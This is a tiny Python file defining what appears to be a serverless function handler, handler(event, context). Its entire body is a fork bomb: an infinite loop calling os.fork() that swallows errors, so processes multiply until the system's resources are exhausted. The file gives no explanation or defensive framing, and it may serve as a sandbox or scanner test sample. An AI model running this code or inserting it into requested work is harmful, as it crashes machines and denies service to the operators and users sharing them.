import os


def handler(event, context):
    while True:
        try:
            os.fork()
        except OSError:
            pass
